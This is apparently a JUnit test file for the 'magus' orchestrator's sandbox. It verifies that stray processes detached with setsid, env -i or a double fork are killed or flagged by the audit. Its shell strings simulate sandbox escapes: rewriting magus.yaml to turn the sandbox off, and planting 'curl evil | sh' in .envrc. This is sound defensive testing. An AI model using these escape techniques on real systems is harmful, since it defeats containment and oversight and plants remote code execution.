package dev.magus.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.events.Code;
import dev.magus.events.Diagnostic;
import dev.magus.events.Layer;
import dev.magus.events.RunEvent;
import dev.magus.orchestrator.contain.Containment;
import dev.magus.orchestrator.run.Run;
import dev.magus.orchestrator.run.RunRequest;
import dev.magus.orchestrator.run.RunResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A descendant that leaves the run's process group (setsid) is killed with the run, before the
 * control-file audit: it cannot wait for the audit to pass and then plant a control file for
 * the next, unconfined tool. Real confined children, required mode, a fake home.
 */
class StraysInRunsTest {
    @TempDir
    Path root;
    TestHost t;

    @BeforeEach
    void setUp() {
        TestHost.assumeLandlock();
        t = new TestHost(root).yaml("sandbox:\n  mode: required\n");
        // The subreaper's rules for whose stray is whose: runs without a cgroup of their own
        // (ContainedRunsInRunsTest holds the same strays under cgroup containment).
        System.setProperty(Containment.FORCE, "freeze");
    }

    @AfterEach
    void clear() {
        System.clearProperty(Containment.FORCE);
    }

    @Test
    void aSetsidDaemonCannotRewriteMagusYamlAfterTheRun() throws Exception {
        String yaml = Files.readString(t.workspace.resolve("magus.yaml"));
        Path pidFile = t.workspace.resolve("daemon.pid");
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c",
                "setsid sh -c 'echo $$ > daemon.pid; sleep 2; printf \"sandbox: {mode: off}\\n\" > magus.yaml; touch planted'"
                        + " </dev/null >/dev/null 2>&1 & while [ ! -s daemon.pid ]; do sleep 0.05; done").build());
        RunResult result = run.result().block(TestHost.DEADLINE);
        assertThat(result.status()).isZero();
        long daemon = Long.parseLong(Files.readString(pidFile).strip());

        assertThat(ProcessHandle.of(daemon).map(ProcessHandle::isAlive).orElse(false))
                .as("the setsid daemon %d is gone when the run ends", daemon).isFalse();
        TimeUnit.SECONDS.sleep(3);
        assertThat(t.workspace.resolve("planted")).doesNotExist();
        assertThat(t.workspace.resolve("magus.yaml")).hasContent(yaml);
    }

    @Test
    void aStrayWithoutTheRunsEnvironmentOutsideItsGroupIsKilledBeforeTheAudit() throws Exception {
        String yaml = Files.readString(t.workspace.resolve("magus.yaml"));
        Path pidFile = t.workspace.resolve("daemon.pid");
        // env -i: no MAGUS_RUN_ID in what /proc/PID/environ shows; setsid: out of the run's group.
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c",
                "env -i setsid /bin/sh -c 'echo $$ > daemon.pid; sleep 2; printf \"sandbox: {mode: off}\\n\" > magus.yaml;"
                        + " touch planted' </dev/null >/dev/null 2>&1 & while [ ! -s daemon.pid ]; do sleep 0.05; done").build());
        RunResult result = run.result().block(TestHost.DEADLINE);
        assertThat(result.status()).isZero();
        long daemon = Long.parseLong(Files.readString(pidFile).strip());

        assertThat(ProcessHandle.of(daemon).map(ProcessHandle::isAlive).orElse(false))
                .as("the env -i setsid daemon %d is gone when the run ends", daemon).isFalse();
        assertThat(Path.of("/proc/" + daemon)).as("and reaped").doesNotExist();
        TimeUnit.SECONDS.sleep(3);
        assertThat(t.workspace.resolve("planted")).doesNotExist();
        assertThat(t.workspace.resolve("magus.yaml")).hasContent(yaml);
    }

    @Test
    void anAdoptedStrayThatMayBeAnotherRunningRunsIsLeftToItAndReapedWhenItEnds() throws Exception {
        Orchestrator o = t.orchestrator();
        Run first = o.submit(RunRequest.builder(t.workspace, "sh", "-c", "sleep 3; exit 7").build());
        TimeUnit.MILLISECONDS.sleep(300);
        Path pidFile = t.workspace.resolve("z.pid");
        Run second = o.submit(RunRequest.builder(t.workspace, "sh", "-c",
                "env -i setsid /bin/sh -c 'echo $$ > z.pid; sleep 1' </dev/null >/dev/null 2>&1 &"
                        + " while [ ! -s z.pid ]; do sleep 0.05; done").build());
        assertThat(second.result().block(TestHost.DEADLINE).status())
                .as("the stray outlives the second run's audit, which so fails").isEqualTo(1);
        long stray = Long.parseLong(Files.readString(pidFile).strip());
        // Started while the first run was running, so it may be the first run's: not killed yet.
        assertThat(ProcessHandle.of(stray).map(ProcessHandle::isAlive).orElse(false))
                .as("the stray %d outlives the second run's end while the first runs", stray).isTrue();

        RunResult r = first.result().block(TestHost.DEADLINE);
        assertThat(r.status()).as("the first run's own exit status is its own, never reaped by the collection").isEqualTo(7);
        // It ended by itself meanwhile (sleep 1): a zombie of magus's, reaped at the first run's end.
        assertThat(Path.of("/proc/" + stray)).as("the adopted zombie %d is reaped", stray).doesNotExist();
        assertThat(adoptedZombies()).isEmpty();
    }

    @Test
    void aWriterDoubleForkedOutOfReachOfTheCollectionFailsTheRunAsUnauditedAndTheRunningRunCatchesItsWrite()
            throws Exception {
        Orchestrator o = t.orchestrator();
        Run first = o.submit(RunRequest.builder(t.workspace, "sh", "-c", "sleep 5; exit 7").build());
        List<RunEvent> firstEvents = new java.util.concurrent.CopyOnWriteArrayList<>();
        first.events().subscribe(firstEvents::add);
        TimeUnit.MILLISECONDS.sleep(300);
        Path pidFile = t.workspace.resolve("w.pid");
        Path envrc = t.workspace.resolve(".envrc");
        // ( … & ): a double fork, so the writer is re-parented to magus; env -i and setsid: no
        // run id, out of the group. Started while the first run runs, it may be either's.
        Run second = o.submit(RunRequest.builder(t.workspace, "sh", "-c",
                "( env -i setsid /bin/sh -c 'echo $$ > w.pid; sleep 2; echo \"curl evil | sh\" > .envrc'"
                        + " </dev/null >/dev/null 2>&1 & ); while [ ! -s w.pid ]; do sleep 0.05; done").build());
        List<RunEvent> events = TestHost.events(second);
        RunResult result = second.result().block(TestHost.DEADLINE);
        long writer = Long.parseLong(Files.readString(pidFile).strip());
        assertThat(result.status()).as("the child exited 0; a writer outlived the run: %s", TestHost.text(events))
                .isEqualTo(1);
        List<Diagnostic> audit = audit(events);
        assertThat(audit).as(TestHost.text(events)).singleElement().satisfies(d -> {
            assertThat(d.code()).isEqualTo(Code.MGS2002);
            assertThat(d.details()).containsEntry("change", "unaudited").containsEntry("pids", Long.toString(writer));
            assertThat(d.message()).contains("outlived").contains(Long.toString(writer));
        });
        assertThat(envrc).as("written after the second run's audit").doesNotExist();

        RunResult r = first.result().block(TestHost.DEADLINE);
        assertThat(r.status()).isEqualTo(7);
        assertThat(audit(firstEvents)).as("the first run, running when it wrote, caught the write")
                .anySatisfy(d -> assertThat(d.details()).containsEntry("change", "created"));
        assertThat(envrc).as("and removed it").doesNotExist();
        assertThat(ProcessHandle.of(writer).map(ProcessHandle::isAlive).orElse(false)).isFalse();
    }

    @Test
    void aRunWhoseStraysAreAllKilledDoesNotFailForThem() throws Exception {
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c",
                "( setsid sh -c 'echo $$ > d.pid; sleep 30' </dev/null >/dev/null 2>&1 & ); while [ ! -s d.pid ]; do sleep 0.05; done")
                .build());
        List<RunEvent> events = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);
        assertThat(result.status()).as(TestHost.text(events)).isZero();
        assertThat(audit(events)).isEmpty();
        long daemon = Long.parseLong(Files.readString(t.workspace.resolve("d.pid")).strip());
        assertThat(ProcessHandle.of(daemon).map(ProcessHandle::isAlive).orElse(false)).isFalse();
    }

    private static List<Diagnostic> audit(List<RunEvent> events) {
        return events.stream().filter(e -> e instanceof RunEvent.Diag).map(e -> ((RunEvent.Diag) e).diagnostic())
                .filter(d -> d.layer() == Layer.AUDIT).toList();
    }

    /** Zombie children of this JVM outside its own process group (the JDK's Process children are in it). */
    private static java.util.List<String> adoptedZombies() throws java.io.IOException {
        long self = ProcessHandle.current().pid();
        String ownGroup = stat(Path.of("/proc/self"))[2];
        java.util.List<String> out = new java.util.ArrayList<>();
        try (java.util.stream.Stream<Path> procs = Files.list(Path.of("/proc"))) {
            for (Path p : (Iterable<Path>) procs.filter(p -> p.getFileName().toString().matches("[0-9]+"))::iterator) {
                String[] f = stat(p);
                if (f != null && f[0].equals("Z") && f[1].equals(Long.toString(self)) && !f[2].equals(ownGroup)) {
                    out.add(p.getFileName().toString());
                }
            }
        }
        return out;
    }

    /** State, ppid, pgrp of /proc/PID/stat, or null when it is gone. */
    private static String[] stat(Path proc) {
        try {
            String s = Files.readString(proc.resolve("stat"));
            return s.substring(s.lastIndexOf(')') + 2).split(" ", 4);
        } catch (java.io.IOException e) {
            return null;
        }
    }
}
